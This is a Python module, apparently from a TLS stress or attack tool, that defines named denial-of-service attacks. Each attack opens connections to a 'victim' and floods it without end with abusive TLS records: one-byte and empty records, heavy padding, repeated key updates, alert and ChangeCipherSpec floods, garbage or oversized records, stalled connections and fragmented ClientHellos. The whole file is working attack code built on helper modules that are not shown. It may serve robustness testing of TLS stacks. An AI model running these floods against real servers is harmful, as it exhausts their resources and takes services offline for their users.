"""Attacks by TLS records: each is one sort of record, repeated on an open link."""

from __future__ import annotations

import functools
import os
from collections.abc import Callable
from typing import Final

from .frame_attacks import Attack
from .handshake_attacks import client_hello, words
from .records import ALERT, HANDSHAKE, KeyLog, RecordWriter
from .stranger import Field, LinkEndedError, hello

__all__ = ["ATTACKS"]

_COUNT: Final = 1000
"""Records that are sealed at once."""
_FRAME: Final = (2**20).to_bytes(4, "big") + b"\x80"
"""The start of a frame of 1 MiB that the victim skips: what follows are bytes of it."""
_BYTES: Final = 2**20 - 1
_CCS: Final = b"\x14\x03\x03\0\x01\x01"
_EMPTY_RECORDS: Final = 31
"""OpenSSL ends a connection for more in a row."""


@functools.cache
def key_log() -> KeyLog:
    """The one of this process: links take their keys in turn."""
    return KeyLog()


def flood(make: Callable[[RecordWriter], bytes]) -> Attack:
    """HELLO, the start of a frame, then the records of `make` without end."""

    async def attack(field: Field) -> None:
        log = key_log()
        while True:
            who = next(field.crowd)
            log.watch(who)
            try:
                async with field.link(who, words=b"") as link:
                    writer = log.writer(link)
                    await link.write(writer.seal(hello() + _FRAME))
                    while True:
                        await link.write(make(writer))
            except LinkEndedError:
                continue

    return attack


def once(make: Callable[[RecordWriter], bytes], *, waits: float = 5.0) -> Attack:
    """HELLO, the records of `make`, and anew when the victim has ended it or after a time."""

    async def attack(field: Field) -> None:
        log = key_log()
        while True:
            who = next(field.crowd)
            log.watch(who)
            try:
                async with field.link(who, words=b"") as link:
                    writer = log.writer(link)
                    await link.write(writer.seal(hello()) + make(writer))
                    await link.ended(waits)
            except LinkEndedError:
                continue

    return attack


def _many(make: Callable[[RecordWriter], bytes]) -> Callable[[RecordWriter], bytes]:
    return lambda writer: b"".join([make(writer) for _ in range(_COUNT)])


async def _bytes_one_by_one(field: Field) -> None:
    """As fast as OpenSSL makes records of one byte."""
    while True:
        try:
            async with field.link() as link:
                while True:
                    await link.send(_FRAME)
                    for _ in range(_BYTES // _COUNT):
                        for _ in range(_COUNT - 1):
                            link.tls.write(b"x")
                        await link.send(b"x")
                    await link.send(bytes(_BYTES % _COUNT))
        except LinkEndedError:
            continue


def _empty(writer: RecordWriter) -> bytes:
    return b"".join([writer.seal(b"") for _ in range(_EMPTY_RECORDS)]) + writer.seal(b"x")


def _split(hello_record: bytes) -> bytes:
    """The same ClientHello with one record for each byte."""
    return b"".join([b"\x16\x03\x01\0\x01" + bytes((each,)) for each in hello_record[5:]])


ATTACKS: Final[dict[str, Attack]] = {
    "record-1-byte": _bytes_one_by_one,
    "record-empty": flood(lambda writer: b"".join([_empty(writer) for _ in range(30)])),
    "record-padded": flood(
        lambda writer: b"".join([writer.seal(b"x", padding=16_000) for _ in range(16)])
    ),
    "key-update": flood(_many(lambda writer: writer.update_key())),
    "key-update-requested": flood(_many(lambda writer: writer.update_key(is_requested=True))),
    "alert-user-canceled": flood(_many(lambda writer: writer.seal(b"\x01\x5a", ALERT))),
    "alert-fatal": once(lambda writer: writer.seal(b"\x02\x50", ALERT)),
    "alert-close-notify": once(lambda writer: writer.seal(b"\x01\0", ALERT)),
    "record-ccs": once(lambda writer: _CCS * 100),
    "record-ticket": once(lambda writer: writer.seal(b"\x04\0\0\x20" + bytes(32), HANDSHAKE)),
    "record-garbage": once(lambda writer: b"\x17\x03\x03\x01\0" + os.urandom(256)),
    "record-too-large": once(lambda writer: b"\x17\x03\x03\xff\xff" + bytes(1024)),
    "record-announced": once(lambda writer: b"\x17\x03\x03\x40\0", waits=3600),
    "clienthello-ccs": words(lambda: client_hello() + _CCS * _EMPTY_RECORDS, holds=True),
    "clienthello-alerts": words(
        lambda: client_hello() + b"\x15\x03\x03\0\x02\x01\x5a" * 4, holds=True
    ),
    "clienthello-1-byte-records": words(lambda: _split(client_hello()), holds=True),
}
